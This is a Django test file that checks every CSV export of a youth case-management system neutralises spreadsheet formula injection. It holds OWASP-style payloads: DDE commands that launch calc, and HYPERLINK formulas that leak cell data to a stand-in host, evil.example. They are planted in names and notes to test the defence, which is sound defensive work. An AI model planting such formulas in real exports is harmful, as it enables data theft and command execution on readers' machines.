"""Every CSV ICMS writes is safe to open in a spreadsheet: text that a spreadsheet would run as a
formula comes out neutralised (audit.exports.safe_cell), whichever export carries it.

EXPORTS lists every export: each URL whose view writes a CSV, with each chart or report it
serves, and the formulas planted in the names and text that reach it. A view that writes a CSV
and is not listed fails `test_every_export_is_listed`.
"""

import csv
import inspect
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from accounts.models import Role
from audit.exports import csv_download
from caseplans.models import CasePlan, ExitPlan
from clients.models import YoungPerson
from exits.services import close_episode
from outcomes.views import OUTCOME_TABLES
from referrals.models import Consultation, Referral
from supervision.queries import DASHBOARD_CHARTS
from supervision.reports import REPORTS
from tests.factories import (
    CasePlanFactory,
    ContactFactory,
    GoalFactory,
    IntensityLevelFactory,
    ReferralFactory,
    UserFactory,
    YoungPersonFactory,
)

pytestmark = pytest.mark.django_db

# Formulas of the kinds OWASP lists: a link that sends the sheet away, a command, sums, and a
# tab or carriage return before them.
IN_DIVISION = "@SUM(1+1)*cmd|' /C calc'!A0"
IN_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"ICMS North")'
IN_WORKER = "+1+cmd|' /C calc'!A0"
IN_PREFERRED_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Mia")'
IN_GIVEN_NAME = "-2+3+cmd|' /C calc'!A0"
IN_FAMILY_NAME = "\t=1+1"
IN_CP_NUMBER = "\r=1+1"
IN_INTENSITY = "=1+1"
IN_NOTES = "=cmd|' /C calc'!A0 and then we talked"

WORKER = f"{IN_WORKER} Quarrie"  # str() of the case manager: given and family name
TEAM_EXPORTS = ("review", "chart")

# (URL name, the chart or report it serves) -> what typed text reaches that CSV.
EXPORTS = {
    ("clients:caseload-export", ""): [
        IN_PREFERRED_NAME,
        IN_GIVEN_NAME,
        IN_FAMILY_NAME,
        IN_CP_NUMBER,
        IN_INTENSITY,
        WORKER,
    ],
    ("clients:contacts-csv", ""): [WORKER, IN_NOTES],
    ("supervision:review-export", ""): [WORKER],
    ("supervision:chart-export", "caseload-weights"): [WORKER],
    # The other charts count by week, month or decline reason: no typed text reaches them.
    ("supervision:chart-export", "contacts"): [],
    ("supervision:chart-export", "referrals"): [],
    ("supervision:chart-export", "decline-reasons"): [],
    ("supervision:chart-export", "register-reviews"): [],
    ("supervision:report-export", "referrals"): [IN_DIVISION],
    ("supervision:report-export", "time-to-decision"): [IN_TEAM],
    ("supervision:report-export", "consultations"): [IN_DIVISION, IN_TEAM],
    ("supervision:report-export", "episodes"): [IN_TEAM],
    ("supervision:report-export", "exits"): [IN_TEAM],
    # By the coded reasons and destinations, fixed lists.
    ("supervision:report-export", "exit-reasons"): [],
    ("supervision:report-export", "exit-destinations"): [],
    ("supervision:report-export", "after-care"): [IN_TEAM],
    ("supervision:report-export", "goals"): [],  # by life domain, a fixed list
    ("supervision:report-export", "after-hours"): [IN_TEAM],
    ("supervision:report-export", "activity"): [IN_DIVISION, IN_TEAM],
    # Figures by fixed names; the scope named is the whole agency's for the period alone.
    ("supervision:quarterly-return", ""): [],
    # By the instrument's items and scales (the administrator's words) and fixed rows.
    ("outcomes:report-export", "to-latest"): [],
    ("outcomes:report-export", "to-exit"): [],
    ("outcomes:report-export", "placement"): [],
    ("outcomes:report-export", "engagement"): [],
}


def _patterns(resolver: URLResolver = None, namespace: str = ""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _patterns(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", pattern.callback


def test_every_export_is_listed():
    writing_csv = {
        name
        for name, view in _patterns()
        if "csv_download(" in inspect.getsource(inspect.unwrap(view))
    }
    served = {
        ("clients:caseload-export", ""),
        ("clients:contacts-csv", ""),
        ("supervision:review-export", ""),
        ("supervision:quarterly-return", ""),
        *(("supervision:chart-export", chart) for chart in DASHBOARD_CHARTS),
        *(("supervision:report-export", report) for report in [*REPORTS, "activity"]),
        *(("outcomes:report-export", table) for table in OUTCOME_TABLES),
    }

    assert writing_csv == {name for name, _ in EXPORTS}
    assert served == set(EXPORTS)


@pytest.fixture
def planted(north, team, supervisor, case_manager):
    """Formulas typed into every name and text that reaches an export: the division's and the
    team's names (the administrator's), a worker's name, a young person's names and number,
    with data behind every chart and report."""
    north.name = IN_DIVISION
    north.save()
    team.name = IN_TEAM
    team.save()
    case_manager.first_name, case_manager.last_name = IN_WORKER, "Quarrie"
    case_manager.save()
    mia = YoungPersonFactory(
        team=team,
        primary_case_manager=case_manager,
        given_name=IN_GIVEN_NAME,
        family_name=IN_FAMILY_NAME,
        preferred_name=IN_PREFERRED_NAME,
        child_protection_number=IN_CP_NUMBER,
        intensity=IntensityLevelFactory(name=IN_INTENSITY),
    )
    decided = timezone.now() - timedelta(days=3)
    ReferralFactory(
        team=team,
        status=Referral.Status.ACCEPTED,
        young_person=mia,
        submitted_at=decided - timedelta(days=2),
        decided_at=decided,
    )
    ContactFactory(young_person=mia, recorded_by=case_manager, after_hours=True, notes=IN_NOTES)
    Consultation.objects.create(
        team=team, asked_by="A practitioner", organisation="Child Protection", question="Who?",
        advice="Try the youth outreach service.", given_by=supervisor,
    )  # fmt: skip
    leaving = YoungPersonFactory(team=team, primary_case_manager=case_manager)
    # Taken on 60 days ago, left 20 days ago.
    ReferralFactory(
        team=team,
        status=Referral.Status.ACCEPTED,
        young_person=leaving,
        decided_at=timezone.now() - timedelta(days=60),
    )
    ExitPlan.objects.create(young_person=leaving, accommodation="Flat", updated_by=case_manager)
    plan = CasePlanFactory(
        young_person=leaving, status=CasePlan.Status.CURRENT, approved_at=decided
    )
    GoalFactory(plan=plan, domain="housing")
    closure = close_episode(
        leaving, by=supervisor, closed_on=timezone.localdate() - timedelta(days=20),
        reason="goals_achieved", destination="lead_tenant",
    )  # fmt: skip
    # Brought forward into the period, for the after-care report.
    closure.follow_ups.filter(months=1).update(due_on=timezone.localdate() - timedelta(days=1))


def _cells(response) -> list[str]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_a_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize(("name", "served"), list(EXPORTS))
def test_a_formula_typed_anywhere_reaches_the_csv_neutralised(
    client, log_in, planted, supervisor, case_manager, team, name, served
):
    log_in(case_manager if name == "clients:caseload-export" else supervisor)
    args = [team.pk] if name.split(":")[1].startswith(TEAM_EXPORTS) else []
    if name == "clients:contacts-csv":  # of the young person with the formulas in their names
        args = [YoungPerson.objects.get(given_name=IN_GIVEN_NAME).pk]
    today = timezone.localdate()
    period = {"starts_on": (today - timedelta(days=30)).isoformat(), "ends_on": today.isoformat()}

    cells = _cells(client.get(reverse(name, args=[*args, served] if served else args), period))

    for formula in EXPORTS[name, served]:
        assert f"'{formula}" in cells
        assert formula not in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_a_number(cell)


def test_numbers_icms_writes_stay_numbers_and_text_that_looks_like_one_is_text(case_manager):
    request = RequestFactory().get("/export.csv")
    request.user = case_manager

    response = csv_download(
        request,
        name="figures",
        header=["=header", "Count"],
        rows=iter([[-3, 2.5, Decimal("-1.5"), 0, "-12", "+61 3 9000 0000", "a-b", None, ""]]),
        detail={},
    )

    assert b"".join(response.streaming_content).decode().splitlines() == [
        "'=header,Count",
        "-3,2.5,-1.5,0,'-12,'+61 3 9000 0000,a-b,,",
    ]


def test_a_supervisor_still_gets_each_workers_row(client, log_in, supervisor, team, case_manager):
    """The neutralising leaves a plain name alone."""
    log_in(supervisor)
    UserFactory(role=Role.CASE_MANAGER, team=team, first_name="Robin", last_name="Lee")

    cells = _cells(client.get(reverse("supervision:review-export", args=[team.pk])))

    assert "Robin Lee" in cells
    assert str(case_manager) in cells
